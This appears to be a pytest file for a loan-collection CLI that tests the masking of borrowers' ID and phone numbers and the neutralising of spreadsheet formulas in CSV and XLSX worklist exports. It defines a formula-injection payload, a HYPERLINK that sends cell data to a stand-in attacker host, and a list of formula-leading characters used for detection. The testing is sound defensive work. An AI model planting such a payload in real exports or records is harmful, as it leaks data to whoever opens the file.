"""Personal data and spreadsheet safety in what the system prints and writes.

- id numbers and phone numbers are masked by default (models/privacy.py: ``3201**********1234``,
  ``139****5678``) in ``npl show`` (text and ``--json``), ``npl worklist --json/--csv/--xlsx``
  and the portfolio report's JSON; ``npl show --reveal-personal-data`` shows them whole;
- text a spreadsheet would run as a formula (``=HYPERLINK("x")``) gets a leading apostrophe in
  the worklist CSV and workbook. The importer refuses such names and ids, so the test writes
  them into the database directly (a borrower's and a guarantor's name, an officer id), as data
  from before that check or from another channel would be.
"""

from __future__ import annotations

import csv
import json
from datetime import date
from pathlib import Path

from click.testing import Result
from openpyxl import load_workbook
from sqlalchemy import update
from typer.testing import CliRunner

from flows.cli import app
from machines.policy import load_policy
from models.store import UnitOfWork
from models.tables import Borrower, Guarantor, Loan, Officer
from services.reporting import build_report
from tests.builders import load, run

AS_OF = date(2008, 9, 30)
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
PEOPLE = {
    # borrower of L-P1 (in visit on AS_OF: its phone is on the worklist)
    "borrower_id": "320102197001011234", "borrower_phone": "13912345678",
    # borrower of L-P2 and its guarantor (a general guarantee ending within the lead days)
    "other_id": "320102198502023456", "other_phone": "13698765432",
    "guarantor_id": "320102196001019999", "guarantor_phone": "13300006666",
}
MASKED = {"borrower_id": "3201**********1234", "borrower_phone": "139****5678"}

runner = CliRunner()


def npl(url: str, *args: str) -> Result:
    result = runner.invoke(app, [*args, "--db", url])
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    assert result.exit_code == 0, result.stderr
    return result


def book(url: str, tmp: Path) -> None:
    load(
        url, tmp,
        [
            {"loan_id": "L-P1", "borrower_id": "B-P1", "borrower_name": "Wang", "id_number": PEOPLE["borrower_id"],
             "phone": PEOPLE["borrower_phone"], "address": "12 Zhongshan Road", "officer_id": "E-01"},
            {"loan_id": "L-P2", "borrower_id": "B-P2", "borrower_name": "Li", "id_number": PEOPLE["other_id"],
             "phone": PEOPLE["other_phone"], "officer_id": "E-02"},
        ],
        [{"loan_id": "L-P2", "guarantor_name": "Zhang", "guarantee_type": "general", "guarantor_id": "G-ZHANG",
          "id_number": PEOPLE["guarantor_id"], "phone": PEOPLE["guarantor_phone"], "guarantee_period_end": "2008-10-15"}],
    )
    run(url, date(2008, 7, 1), AS_OF)
    with UnitOfWork(url) as uow:  # names the importer would refuse, as older data may hold them
        s = uow.session
        s.execute(update(Borrower).where(Borrower.borrower_id == "B-P1").values(name=FORMULA))
        s.execute(update(Guarantor).where(Guarantor.loan_id == "L-P2").values(name=FORMULA))
        s.add(Officer(officer_id=FORMULA))
        s.flush()
        s.execute(update(Loan).where(Loan.loan_id == "L-P2").values(assigned_to=FORMULA))
        uow.commit()


def assert_no_personal_numbers(text: str) -> None:
    for what, value in PEOPLE.items():
        assert value not in text, f"{what} {value} printed whole"


def test_show_masks_id_and_phone_numbers_unless_asked_to_reveal_them(sqlite_db: str, tmp_path: Path) -> None:
    book(sqlite_db, tmp_path)

    text = npl(sqlite_db, "show", "L-P1").stdout
    shown = json.loads(npl(sqlite_db, "show", "L-P1", "--json").stdout)
    revealed = json.loads(npl(sqlite_db, "show", "L-P1", "--json", "--reveal-personal-data").stdout)
    guaranteed = npl(sqlite_db, "show", "L-P2", "--json").stdout

    assert_no_personal_numbers(text)
    assert_no_personal_numbers(json.dumps(shown, ensure_ascii=False))
    assert_no_personal_numbers(guaranteed)
    assert (shown["borrower"]["id_number"], shown["borrower"]["phone"]) == (MASKED["borrower_id"], MASKED["borrower_phone"])
    assert (revealed["borrower"]["id_number"], revealed["borrower"]["phone"]) == (PEOPLE["borrower_id"], PEOPLE["borrower_phone"])
    assert FORMULA in text  # the terminal shows the name as it is: only spreadsheets run formulas


def worklist_json(url: str) -> list[dict]:
    items = json.loads(npl(url, "worklist", "--as-of", AS_OF.isoformat(), "--json").stdout)["items"]
    assert_no_personal_numbers(json.dumps(items, ensure_ascii=False))
    visit = next(i for i in items if i["loan_id"] == "L-P1" and i["task"] == "visit")
    assert f"phone {MASKED['borrower_phone']}" in visit["detail"]
    return items


def formula_cells(items: list[dict]) -> None:
    """L-P2's officer id opens a cell (what a spreadsheet would run); the borrower's and the
    guarantor's names sit inside cells (text, not formulas)."""
    assert {i["officer"] for i in items if i["loan_id"] == "L-P2"} == {FORMULA}
    assert any(FORMULA in i["detail"] and not i["detail"].startswith("=") for i in items if i["loan_id"] == "L-P1")
    assert any(FORMULA in i["detail"] and not i["detail"].startswith("=") for i in items if i["loan_id"] == "L-P2")


def test_worklist_json_and_csv_mask_phones_and_the_csv_neutralizes_formula_text(sqlite_db: str, tmp_path: Path) -> None:
    book(sqlite_db, tmp_path)
    csv_file = tmp_path / "worklist.csv"

    items = worklist_json(sqlite_db)
    npl(sqlite_db, "worklist", "--as-of", AS_OF.isoformat(), "--csv", str(csv_file))

    assert_no_personal_numbers(csv_file.read_text(encoding="utf-8"))
    with csv_file.open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    formula_cells(items)
    assert "'" + FORMULA in cells
    assert f"phone {MASKED['borrower_phone']}" in " ".join(cells)
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_worklist_xlsx_masks_phones_and_neutralizes_formula_text(sqlite_db: str, tmp_path: Path) -> None:
    book(sqlite_db, tmp_path)
    xlsx_file = tmp_path / "worklist.xlsx"

    items = worklist_json(sqlite_db)
    npl(sqlite_db, "worklist", "--as-of", AS_OF.isoformat(), "--xlsx", str(xlsx_file))

    workbook = load_workbook(xlsx_file)
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert_no_personal_numbers(" ".join(str(c.value) for c in cells))
    formula_cells(items)
    assert "'" + FORMULA in [c.value for c in cells]
    assert f"电话 {MASKED['borrower_phone']}" in " ".join(str(c.value) for c in cells)  # NPL_LANG unset: the details in Chinese
    assert not [c.coordinate for c in cells if c.data_type == "f" or str(c.value).startswith(("=", "+", "-", "@"))]


def test_report_json_carries_no_whole_id_or_phone_number(sqlite_db: str, tmp_path: Path) -> None:
    book(sqlite_db, tmp_path)
    with UnitOfWork(sqlite_db) as uow:
        report, _tables = build_report(uow.session, load_policy(), AS_OF)

    text = json.dumps(report, ensure_ascii=False, default=str)
    assert_no_personal_numbers(text)
    assert any(r["loan_id"] == "L-P2" for r in report["deadlines_at_risk"])  # the cases are in it
